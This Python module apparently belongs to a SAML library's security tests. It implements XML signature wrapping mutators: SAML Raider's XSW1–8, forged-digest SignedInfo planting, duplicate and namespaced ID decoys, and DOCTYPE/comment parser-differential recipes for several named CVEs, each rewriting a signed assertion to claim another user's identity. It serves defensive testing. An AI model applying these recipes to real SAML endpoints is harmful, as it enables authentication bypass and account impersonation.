"""XML signature wrapping attacks on golden responses (docs/security.md S-01…S-12).

Wrapping is kept apart because it is the largest family and the one whose shapes keep
changing: SAML Raider's eight classic XSW moves, the published recipes since (crewjam/saml,
ruby-saml, "The Fragile Lock"), and the DOCTYPE variants of those recipes as text. Every
mutator runs after signing and keeps the real signatures intact, only moving or copying them,
so that a verifier checking one element and a reader using another would disagree; the evil
side always becomes `EVIL`, someone else in the same verified domain.
"""

from __future__ import annotations

import base64
import copy
import hashlib
from typing import Any

from lxml import etree

from tests.support.saml_golden import DS, EVIL, NS, SAML, SAMLP, q, serialize
from tests.support.saml_mutators import assertion_of, signature_of, with_doctype

# -- building blocks ------------------------------------------------------------------------


def first_signature(root: Any) -> Any:
    """The first ds:Signature in document order (SAML Raider's `getElementsByTagNameNS`)."""
    return next(root.iter(q(DS, "Signature")))


def make_evil(element: Any) -> None:
    """Become someone else: NameID and email attribute say EVIL."""
    for name_id in element.iter(q(SAML, "NameID")):
        name_id.text = EVIL
    for attribute in element.iter(q(SAML, "Attribute")):
        if attribute.get("Name") == "email":
            for value in attribute.iter(q(SAML, "AttributeValue")):
                value.text = EVIL


def without_signature(element: Any) -> Any:
    """A deep copy of `element` with its own direct ds:Signature removed."""
    clone = copy.deepcopy(element)
    for signature in clone.findall(q(DS, "Signature")):
        clone.remove(signature)
    return clone


def _evil_copy(assertion: Any, new_id: str | None = None) -> Any:
    """An unsigned copy of `assertion` that says EVIL, with `new_id` as its ID if given."""
    evil = without_signature(assertion)
    make_evil(evil)
    if new_id is not None:
        evil.set("ID", new_id)
    return evil


def _samlp_extensions(root: Any) -> Any:
    """A new, schema-legal `samlp:Extensions` in the Response (right before its Status)."""
    extensions = etree.Element(q(SAMLP, "Extensions"))
    root.find("samlp:Status", NS).addprevious(extensions)
    return extensions


# -- XML signature wrapping (SAML Raider XSWHelpers.applyXSW1…8; S-01…S-08) ------------------


def _evil_response_with_pristine_copy(root: Any, *, inside_signature: bool) -> None:
    """XSW1/XSW2 on a signed Response: an unsigned copy of it goes inside its ds:Signature or
    right before it; the outer Response becomes evil and gets a new ID."""
    clone = copy.deepcopy(root)
    clone_signature = first_signature(clone)
    clone_signature.getparent().remove(clone_signature)
    make_evil(root)
    if inside_signature:
        first_signature(root).append(clone)
    else:
        first_signature(root).addprevious(clone)
    root.set("ID", "_evil_response_ID")


def xsw1(root: Any) -> None:
    """Signed Response: an unsigned copy of it goes *inside* its ds:Signature; the outer
    Response becomes evil and gets a new ID."""
    _evil_response_with_pristine_copy(root, inside_signature=True)


def xsw2(root: Any) -> None:
    """As XSW1, but the copy is inserted as a sibling right before the Signature."""
    _evil_response_with_pristine_copy(root, inside_signature=False)


def xsw3(root: Any) -> None:
    """Signed Assertion: an unsigned evil copy with a new ID inserted before it."""
    assertion = assertion_of(root)
    assertion.addprevious(_evil_copy(assertion, "_evil_assertion_ID"))


def xsw4(root: Any) -> None:
    """The evil copy is appended to the Response and the signed Assertion moved inside it."""
    assertion = assertion_of(root)
    evil = _evil_copy(assertion, "_evil_assertion_ID")
    root.append(evil)
    evil.append(assertion)


def xsw5(root: Any) -> None:
    """The Assertion in place turns evil (keeping the copied Signature, new ID); a pristine
    unsigned copy is appended to the Response."""
    evil = assertion_of(root)
    pristine = without_signature(evil)
    make_evil(evil)
    root.append(pristine)
    evil.set("ID", "_evil_assertion_ID")


def xsw6(root: Any) -> None:
    """The Assertion in place turns evil (new ID); the pristine unsigned copy goes inside its
    Signature."""
    evil = assertion_of(root)
    original_signature = signature_of(evil)
    pristine = without_signature(evil)
    make_evil(evil)
    original_signature.append(pristine)
    evil.set("ID", "_evil_assertion_ID")


def xsw7(root: Any) -> None:
    """An `Extensions` element (no namespace, as SAML Raider's createElement makes it) before
    the Assertion holds an evil unsigned copy."""
    assertion = assertion_of(root)
    extensions = etree.Element("Extensions")
    assertion.addprevious(extensions)
    extensions.append(_evil_copy(assertion))


def xsw7_samlp_extensions(root: Any) -> None:
    """XSW7 with a schema-legal `samlp:Extensions` (after the Issuer/Signature, before Status)."""
    assertion = assertion_of(root)
    _samlp_extensions(root).append(_evil_copy(assertion))


def xsw8(root: Any) -> None:
    """The Assertion in place turns evil (same ID, keeps its Signature); the pristine copy goes
    in an `Object` element appended to that Signature."""
    evil = assertion_of(root)
    original_signature = signature_of(evil)
    pristine = without_signature(evil)
    make_evil(evil)
    holder = etree.SubElement(original_signature, "Object")
    holder.append(pristine)


# -- newer wrapping shapes (S-09, S-10, S-12) ------------------------------------------------


def append_unsigned_assertion(root: Any) -> None:
    """CVE-2022-41912 (crewjam/saml): an unsigned evil copy appended after the signed one."""
    assertion = assertion_of(root)
    root.append(_evil_copy(assertion, assertion.get("ID") + "_attack"))


def assertion_in_ds_object(root: Any) -> None:
    """SAML Raider XSW10 / CVE-2025-23369 without its DOCTYPE: the Response signature
    replaced by a copy of the Assertion's, carrying in a ds:Object a pristine copy of the
    Assertion; the Assertion in place turns evil, loses its Signature and gets ID + "ffff"."""
    assertion = assertion_of(root)
    response_signature = root.find(q(DS, "Signature"))
    if response_signature is not None:
        root.remove(response_signature)
    moved = copy.deepcopy(signature_of(assertion))
    root.find(q(SAML, "Issuer")).addnext(moved)
    holder = etree.SubElement(moved, q(DS, "Object"))
    holder.append(copy.deepcopy(assertion))
    assertion.remove(signature_of(assertion))
    make_evil(assertion)
    assertion.set("ID", assertion.get("ID") + "ffff")


def relocate_assertion_signature(root: Any) -> None:
    """The Assertion's Signature moved out of it, to the Response (after its Issuer), where its
    Reference no longer points at its parent; the Assertion turns evil."""
    assertion = assertion_of(root)
    signature = signature_of(assertion)
    assertion.remove(signature)
    root.find(q(SAML, "Issuer")).addnext(signature)
    make_evil(assertion)


def namespaced_id(root: Any) -> None:
    """ "The Fragile Lock": an evil unsigned Assertion before the real one carries the signed
    ID as `x:ID`, which libxmlsec1 registers by local name, first in document order."""
    assertion = assertion_of(root)
    evil = _evil_copy(assertion, "_evil_assertion_ID")
    evil.set("{urn:example:evil}ID", assertion.get("ID"))
    assertion.addprevious(evil)


def duplicate_id_before_assertion(root: Any) -> None:
    """A non-SAML element before the Assertion claims the Assertion's ID (first one wins in
    libxmlsec1's ID table)."""
    extensions = _samlp_extensions(root)
    decoy = etree.SubElement(extensions, "{urn:example:evil}Decoy")
    decoy.set("ID", assertion_of(root).get("ID"))


def _exc_c14n_digest(element: Any) -> str:
    data = etree.tostring(element, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.sha256(data).digest()).decode("ascii")


def forged_signed_info_in_extensions(root: Any) -> None:
    """CVE-2024-45409 shape (S-10): the Assertion turns evil; a SignedInfo whose DigestValue is
    recomputed over the evil Assertion is planted in samlp:Extensions, hoping the verifier
    reads the digest from there."""
    assertion = assertion_of(root)
    make_evil(assertion)
    forged = copy.deepcopy(signature_of(assertion).find(q(DS, "SignedInfo")))
    forged.find(f"{q(DS, 'Reference')}/{q(DS, 'DigestValue')}").text = _exc_c14n_digest(
        without_signature(assertion)
    )
    _samlp_extensions(root).append(forged)


def signature_in_status_detail(root: Any) -> None:
    """CVE-2025-25292 without its DOCTYPE (S-12): real signatures moved out, a forged one
    (digest of the empty string) in the evil Assertion, and the real Assertion signature
    copied un-namespaced into StatusDetail. Add `nonuri_namespace` and the DOCTYPE for the
    full recipe."""
    assertion = assertion_of(root)
    original = signature_of(assertion)
    for signature in list(root.iter(q(DS, "Signature"))):
        signature.getparent().remove(signature)
    forged = copy.deepcopy(original)
    empty = base64.b64encode(hashlib.sha256(b"").digest()).decode("ascii")
    for digest in forged.iter(q(DS, "DigestValue")):
        digest.text = empty
    assertion.find(q(SAML, "Issuer")).addnext(forged)
    make_evil(assertion)
    status = root.find("samlp:Status", NS)
    detail = etree.SubElement(status, q(SAMLP, "StatusDetail"))
    bare = etree.SubElement(detail, "Signature")
    for child in original:
        bare.append(copy.deepcopy(child))


def nonuri_namespace(xml: bytes) -> bytes:
    """CVE-2025-25292's invalid namespace URI `http://example.com\\u0080`, declared on the
    Assertion (lxml's API refuses to declare it, so this works on the text)."""
    declaration = ' xmlns:example="http://example.com\u0080"'.encode()
    return xml.replace(b"<saml:Assertion ", b"<saml:Assertion" + declaration + b" ", 1)


# -- the same recipes with their DOCTYPEs (S-09, S-11, S-12) ---------------------------------


def cve_2025_25291(original: bytes, evil: bytes) -> bytes:
    """ruby-saml's parser differential: REXML sees `evil` (the comment-hidden part is
    CDATA to it), Nokogiri sees the signed `original`."""
    end_tag = b"</samlp:Response>"

    def body(xml: bytes) -> bytes:
        return xml.partition(b"?>")[2].split(end_tag)[0]

    return (
        b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n"
        + body(evil)
        + b"<![CDATA[-->\n"
        + body(original)
        + b"<!--]]>-->\n"
        + end_tag
    )


def cve_2025_25292_doctype(xml: bytes) -> bytes:
    return with_doctype(
        xml,
        "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "
        '"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>',
    )


def cve_2025_23369_doctype(root: Any) -> bytes:
    """XSW10 with its entity trick: the Response ID and the Object's Assertion ID are built
    from entities so an ID-uniqueness check on the raw text is fooled."""
    assertion_in_ds_object(root)
    hidden = root.find(f"{q(DS, 'Signature')}/{q(DS, 'Object')}/{q(SAML, 'Assertion')}")
    hidden_id = hidden.get("ID")
    root.set("ID", "IDVIAENTITY")
    hidden.set("ID", "BYPASS" + hidden_id)
    xml = serialize(root)
    xml = xml.replace(b'ID="IDVIAENTITY"', b'ID="&idViaEntity;"').replace(
        b'ID="BYPASS', b'ID="&BypassIDUniqueness;'
    )
    return with_doctype(
        xml,
        f'<!DOCTYPE response [<!ENTITY idViaEntity "{hidden_id}">'
        '<!ENTITY BypassIDUniqueness "&#x50;">]>',
    )
